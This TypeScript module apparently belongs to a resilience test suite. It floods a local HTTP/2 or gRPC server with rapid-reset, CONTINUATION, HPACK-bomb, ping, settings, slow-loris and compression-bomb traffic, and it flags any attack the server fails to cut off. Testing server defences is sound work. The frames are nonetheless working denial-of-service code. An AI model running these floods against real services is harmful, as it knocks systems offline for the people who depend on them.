import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { GrpcLane, type GrpcJob } from "./grpc-lane.ts";
import { pour, type Attack, type Attacker } from "./attack.ts";
import { bomb } from "./compress.ts";
import {
  ACK,
  CALL,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  PING,
  PREFACE,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
  WINDOW_UPDATE,
  frame,
  headerBlock,
  setting,
  uint32,
} from "./frames.ts";

/** Milliseconds that an attack on a connection goes on if nobody ends it. */
const ATTACK_MS = 3_000;
const CANCEL = uint32(8);

/** A connection that has said hello. */
async function greeted(attacker: Attacker, settings: Uint8Array = Buffer.alloc(0)): Promise<Socket> {
  const socket = await attacker.open(attacker.victim.grpcPort);
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, settings), frame(SETTINGS, ACK, 0)]));
  socket.resume();
  return socket;
}

interface Flood {
  readonly connections?: number;
  readonly cut?: boolean;
  readonly settings?: Uint8Array;
}

/** Frames without end, on a few connections; another one is opened when one is cut. `cut`: it has to be. */
function flood(
  name: string,
  make: (i: number) => Buffer,
  { connections = 4, cut = false, settings }: Flood = {},
): Attack {
  return {
    name,
    run: async (attacker) => {
      const until = performance.now() + ATTACK_MS;
      let cuts = 0;
      const attack = async (): Promise<void> => {
        while (performance.now() < until) {
          const socket = await greeted(attacker, settings);
          socket.once("close", () => cuts++);
          await pour(socket, (i) => (performance.now() < until ? make(i) : undefined));
          await sleep(20);
        }
      };
      await Promise.all(Array.from({ length: connections }, attack));
      return cut && cuts === 0 ? [`${name}: no connection was cut`] : [];
    },
  };
}

const stream = (i: number): number => 1 + 2 * i;
const call = headerBlock(CALL);
const BATCH = 200;
const batch = (i: number, make: (n: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: BATCH }, (_, k) => make(i * BATCH + k)));

export const HTTP2_ATTACKS: readonly Attack[] = [
  flood(
    "rapid reset",
    (i) =>
      batch(i, (n) =>
        Buffer.concat([frame(HEADERS, END_HEADERS, stream(n), call), frame(RST_STREAM, 0, stream(n), CANCEL)]),
      ),
    { cut: true },
  ),
  flood(
    "rapid reset by errors of its own making",
    // A window that overflows makes the server reset the stream.
    (i) =>
      batch(i, (n) =>
        Buffer.concat([
          frame(HEADERS, END_HEADERS, stream(n), call),
          frame(WINDOW_UPDATE, 0, stream(n), uint32(0x7fffffff)),
        ]),
      ),
    { cut: true },
  ),
  flood("flood of settings", (i) => batch(i, () => frame(SETTINGS, 0, 0, setting(4, 65_535 + (i % 100))))),
  flood("settings of every size", (i) =>
    frame(SETTINGS, 0, 0, Buffer.concat(Array<Buffer>(2_700).fill(setting(1, i % 4_096)))),
  ),
  flood("flood of pings", (i) => batch(i, () => frame(PING, 0, 0, Buffer.alloc(8, 1))), { cut: true }),
  flood("flood of ping answers", (i) => batch(i, () => frame(PING, ACK, 0, Buffer.alloc(8, 1)))),
  flood("flood of priorities", (i) => batch(i, (n) => frame(PRIORITY, 0, stream(n % 1_000_000), Buffer.alloc(5, 1)))),
  flood("flood of empty data", (i) =>
    i === 0 ? frame(HEADERS, END_HEADERS, 1, call) : batch(i, () => frame(DATA, 0, 1)),
  ),
  flood("flood of window updates", (i) => batch(i, () => frame(WINDOW_UPDATE, 0, 0, uint32(1)))),
  flood("windows that overflow", () => frame(WINDOW_UPDATE, 0, 0, uint32(0x7fffffff)), { cut: true }),
  flood("window updates of zero", () => frame(WINDOW_UPDATE, 0, 0, uint32(0)), { cut: true }),
  flood(
    "headers that never end (CONTINUATION)",
    (i) =>
      i === 0 ? frame(HEADERS, 0, 1, call) : batch(i, () => frame(CONTINUATION, 0, 1, headerBlock([["x", "y"]]))),
    { cut: true },
  ),
  flood(
    "empty headers that never end",
    (i) => (i === 0 ? frame(HEADERS, 0, 1, call) : batch(i, () => frame(CONTINUATION, 0, 1))),
    {
      cut: true,
    },
  ),
  flood("huge headers", (i) => {
    const block = headerBlock([...CALL, ["x-large", "x".repeat(16_000)]]);
    return frame(HEADERS, END_HEADERS | END_STREAM, stream(i), block);
  }),
  // A header of 4,000 bytes is put into the table once and named by one byte afterwards.
  flood("HPACK bomb", (i) => {
    const first = headerBlock([["x-bomb", "x".repeat(3_900)]], true);
    const block = Buffer.concat([call, i === 0 ? first : Buffer.alloc(0), Buffer.alloc(12_000, 0x80 | 62)]);
    return frame(HEADERS, END_HEADERS | END_STREAM, stream(i), block);
  }),
  flood("thousands of streams that stay open", (i) => batch(i, (n) => frame(HEADERS, END_HEADERS, stream(n), call))),
  // The client takes no byte of its answers.
  flood(
    "answers that nobody takes",
    (i) =>
      batch(i, (n) =>
        Buffer.concat([
          frame(HEADERS, END_HEADERS, stream(n), call),
          frame(DATA, END_STREAM, stream(n), Buffer.alloc(5)),
        ]),
      ),
    { settings: setting(4, 0) },
  ),
  flood("frames of every kind, at random", (i) => {
    const random = Math.imul(i + 1, 0x9e3779b1) >>> 0;
    return frame(random % 14, (random >>> 8) % 256, (random >>> 16) % 8, Buffer.alloc((random >>> 4) % 64, random));
  }),
  {
    name: "slow loris: messages (gRPC)",
    run: async (attacker) => {
      const sockets = await Promise.all(Array.from({ length: 100 }, () => greeted(attacker)));
      for (const socket of sockets) {
        for (let n = 0; n < 20; n++) socket.write(frame(HEADERS, END_HEADERS, stream(n), call));
      }
      const until = performance.now() + ATTACK_MS;
      while (performance.now() < until) {
        for (const socket of sockets)
          for (let n = 0; n < 20; n++) if (socket.writable) socket.write(frame(DATA, 0, stream(n), Buffer.alloc(1)));
        await sleep(200);
      }
      return [];
    },
  },
  ...(["gzip", "deflate", "zstd"] as const).map((coding) => ({
    name: `inflate bomb (gRPC, ${coding})`,
    run: async (attacker: Attacker) => {
      const codes = await Promise.all(Array.from({ length: 6 }, () => grpcBomb(attacker, coding)));
      return codes.filter((code) => code !== 8 && code !== 14).map((code) => `gRPC bomb: grpc-status ${code}`);
    },
  })),
  {
    name: "an endless message (gRPC)",
    run: async (attacker) => {
      const socket = await greeted(attacker);
      socket.write(frame(WINDOW_UPDATE, 0, 0, uint32(0x3fffffff)));
      socket.write(frame(HEADERS, END_HEADERS, 1, call));
      const until = performance.now() + ATTACK_MS;
      // More than the window allows is an error of its own.
      await pour(socket, () => (performance.now() < until ? frame(DATA, 0, 1, Buffer.alloc(16_000, "x")) : undefined));
      return [];
    },
  },
];

/** The grpc-status of a bomb. */
function grpcBomb({ victim }: Attacker, coding: "gzip" | "deflate" | "zstd"): Promise<number | undefined> {
  const body = bomb(coding);
  const head = Buffer.alloc(5, 1);
  head.writeUInt32BE(body.length, 1);
  const headers = { ...Object.fromEntries(CALL), "grpc-encoding": coding };
  const { ca, grpcPort } = victim;
  return new Promise((resolve) => {
    let job: GrpcJob | undefined = {
      headers: { ...headers, ":scheme": ca === undefined ? "http" : "https" },
      body: Buffer.concat([head, body]),
      answered: ({ code }) => resolve(code),
      cut: () => resolve(undefined),
    };
    const take = (): GrpcJob | undefined => {
      const now = job;
      job = undefined;
      return now;
    };
    const lane = new GrpcLane(`${ca === undefined ? "http" : "https"}://127.0.0.1:${grpcPort}`, 1, take, ca);
    void lane.done;
  });
}
